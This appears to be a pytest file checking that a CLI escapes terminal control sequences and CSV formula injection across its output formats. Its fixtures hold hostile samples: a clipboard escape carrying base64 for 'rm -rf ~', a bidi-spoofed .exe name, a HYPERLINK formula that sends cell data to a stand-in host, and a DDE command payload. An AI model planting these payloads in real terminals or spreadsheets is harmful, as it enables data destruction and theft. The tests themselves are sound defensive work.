"""Text from records cannot control the terminal of a reader, in any output format."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text

from infra.escaping import (
    EscapingFormatter,
    escape_control_characters,
    escape_csv_cell,
    escape_json,
    escape_keeping_nul,
    escape_to_one_line,
)
from pipelines.cli import chat as chat_command
from pipelines.present.output import Report, RowOutput, Texts, show, table
from pipelines.present.record_text import as_line
from pipelines.present.token_colours import Tokens, coloured
from pipelines.present.view.console import console
from pipelines.run.agents_elsewhere import print_event

ROOT = Path(__file__).parents[4]
CHAT_OPTIONS = ("system", "run", "url", "key", "temperature", "max_tokens")

CONTROL_SEQUENCES = {
    "clear screen": "\x1b[2J\x1b[1;1H",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "title": "\x1b]0;root@here\x1b\\\\",
    "link": "\x1b]8;;https://elsewhere.invalid\x1b\\\\here\x1b]8;;\x1b\\\\",
    "eight-bit CSI": "\x9b2J",
    "eight-bit OSC": "\x9d0;title\x9c",
    "device query": "\x1bP+q\x1b\\\\",
    "backspaces": "lost 3\b\b\b\b\b\b",
    "carriage return": "lost 3\rlost 0",
    "bell, NUL, delete": "\x07\x00\x7f",
    "vertical tab, form feed": "\x0b\x0c",
    "shift out": "\x0e\x0f",
    "bidirectional override": "\u202egnp.exe\u202c",
    "bidirectional isolate": "\u2066\u2069",
    "marks": "\u200e\u200f\u061c",
    "line separators": "a\u2028b\u2029c",
    "invisible tags": "\U000e0041\U000e007f",
    "annotations": "\ufff9\ufffb",
}
UNSAFE = "ok " + " ".join(CONTROL_SEQUENCES.values())


def control_characters(text: str, allowed: str = "\n\t") -> list[str]:
    """Return the characters of `text` that control a terminal or change the reading order."""
    kinds = ("Cc", "Zl", "Zp", "Cs")
    bidi = ("RLO", "LRO", "RLE", "LRE", "PDF", "RLI", "LRI", "FSI", "PDI")
    return [
        c
        for c in text
        if c not in allowed
        and (unicodedata.category(c) in kinds or unicodedata.bidirectional(c) in bidi or c in "\u200e\u200f")
    ]


def rows(form: str) -> RowOutput:
    row = {"name": "p1.0", UNSAFE: 1, "text": UNSAFE, "nested": [{"text": UNSAFE}], "length": 3}
    return RowOutput([[row]], None, form, line=lambda row: f"{row['name']} {row['text']}")  # type: ignore[arg-type]


PRINTED: dict[str, Callable[[], object]] = {
    **{form: lambda form=form: rows(form) for form in ("table", "lines", "json", "jsonl", "csv")},  # type: ignore[misc]
    "report": lambda: Report({"text": UNSAFE}, lambda: UNSAFE),
    "report, JSON": lambda: Report({"text": UNSAFE}, str, as_json=True),
    "rich text": lambda: Texts([Text(UNSAFE), Text.assemble(("bold " + UNSAFE, "bold"))]),
    "table's title": lambda: Texts([table([{"text": UNSAFE}], ["text"], title=UNSAFE)]),
    "tokens": lambda: Texts(coloured(Tokens([1], [UNSAFE], [-0.05], [True], ["0.1"]), "none")),
    "a record's line": lambda: Texts(
        [as_line({"partition": 0, "offset": 1, "ts": 0, "schema": UNSAFE, "key": UNSAFE, "rows": [], "error": None})]
    ),
    "a record's error": lambda: Texts(
        [
            as_line(
                {"partition": 0, "offset": 1, "ts": 0, "schema": "", "key": "", "size": 3, "rows": [], "error": UNSAFE}
            )
        ]
    ),
}


@pytest.mark.parametrize("what", PRINTED)
def test_show_escapes_control_characters(what: str, capsys: pytest.CaptureFixture[str]) -> None:
    show(PRINTED[what]())
    printed = capsys.readouterr().out
    assert "ok " in printed
    assert control_characters(printed, "\n\t\0" if what == "lines" else "\n\t") == []  # NUL: for xargs -0


@pytest.mark.parametrize("terminal", [True, False])
def test_console_escapes_control_characters(terminal: bool) -> None:
    for part in (UNSAFE, Text(UNSAFE), table([{"text": UNSAFE}], ["text"])):
        out = io.StringIO()
        console(file=out, force_terminal=terminal, width=4000, soft_wrap=True).print(
            part, highlight=False, markup=False
        )
        assert control_characters(Text.from_ansi(out.getvalue()).plain.replace("\x1b", "")) == []
        assert "\x1b]" not in out.getvalue()
        assert "[2J" in out.getvalue()  # escaped, and still readable


KEPT = {
    escape_control_characters: "\n\t",
    escape_to_one_line: "",
    escape_keeping_nul: "\n\t\0",
    escape_csv_cell: "\n\t",
}


@pytest.mark.parametrize("spell", KEPT)
@given(text=st.text())
def test_escape_functions_accept_any_text(spell: Callable[[str], str], text: str) -> None:
    shown = spell(text)
    assert control_characters(shown, KEPT[spell]) == []
    if text.isprintable() and spell is not escape_csv_cell:
        assert shown == text


@given(value=st.text())
def test_escape_json_keeps_value(value: str) -> None:
    shown = escape_json(json.dumps({value: [value]}, ensure_ascii=False))
    assert control_characters(shown) == []
    assert json.loads(shown) == {value: [value]}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")', None),
        ("+1+cmd|' /C calc'!A0", None),
        ("-2+3", None),
        ("@SUM(A1)", None),
        ("\ttext", None),
        ("\t=1", "'\t'=1"),
        ("\n=1", "'\n'=1"),
        ("  =1", None),
        ("'=1", None),
        ('"=1', None),
        ("\uff1d1+1", None),
        ("a;=1", "a;'=1"),
        ('a; "=1;b', "a;' \"=1;b"),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a\n+1", "a\n'+1"),
        ("a;b = c - d\ttext", "a;b = c - d\ttext"),
    ],
)
def test_csv_quotes_formulas_and_csv_raw_does_not(
    cell: str, shown: str | None, capsys: pytest.CaptureFixture[str]
) -> None:
    for form, expected in (("csv", f"'{cell}" if shown is None else shown), ("csv-raw", cell)):
        show(RowOutput([[{"text": cell, "reward": -0.5}]], None, form))  # type: ignore[arg-type]
        written = next(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
        assert written == {"text": expected, "reward": "-0.5"}


def starts_formula(cell: str) -> bool:
    return cell.strip().lstrip("'\"").startswith(("=", "+", "-", "@")) and not cell.strip().startswith("'")


@given(text=st.text("=+-@;\t\n\r ,'\"ax", max_size=12))
def test_csv_has_no_formula_whatever_the_separator(text: str) -> None:
    """A spreadsheet that separates by `;` or tabs sees neither the quotes nor the ends of our cells."""
    assert escape_csv_cell("a\r=1") == "a\\x0d=1"
    assert not [each for each in re.split("[;\t\n\r]", escape_csv_cell(text)) if starts_formula(each)]


def test_log_formatter_escapes_control_characters() -> None:
    record = logging.LogRecord("score", logging.WARNING, __file__, 1, "the verifier raised %s", (UNSAFE,), None)
    assert control_characters(EscapingFormatter("%(message)s").format(record)) == []


def test_agents_of_others_cannot_control_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    """The line of an attempt has the end of what the agent wrote, or its report."""
    print_event(f"p1.0.1: {UNSAFE}")
    printed = capsys.readouterr().out
    assert printed.startswith("p1.0.1: ok ")
    assert control_characters(printed) == []


class _Answers:
    """A gateway whose model answers with `UNSAFE`."""

    log = None

    def post(self, path: str, body: dict[str, object]) -> io.BytesIO:
        message = {"content": UNSAFE}
        if not body.get("stream"):
            return io.BytesIO(json.dumps({"choices": [{"message": message}]}).encode())
        chunks = [{"choices": [{"delta": {"content": each}}]} for each in UNSAFE]
        return io.BytesIO(b"".join(b"data: " + json.dumps(each).encode() + b"\n\n" for each in chunks))


@pytest.mark.parametrize("as_json", [True, False])
def test_chat_escapes_the_answer(
    as_json: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(chat_command, "_access", lambda *arguments: _Answers())
    chat_command.chat("?", version="latest", json=as_json, **dict.fromkeys(CHAT_OPTIONS))  # type: ignore[arg-type]
    printed = capsys.readouterr().out
    assert "ok " in printed
    assert control_characters(printed) == []
    if as_json:
        assert json.loads(printed)["choices"][0]["message"]["content"] == UNSAFE


def test_traceback_of_debug_is_escaped() -> None:
    code = (
        "import sys; from pipelines.cli import main; main.quiet_libraries(); sys.excepthook = main._print_traceback\n"
    )
    code += f"raise ValueError({UNSAFE!r})"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False, cwd=ROOT)
    assert "ValueError: ok " in ran.stderr
    assert control_characters(ran.stderr) == []
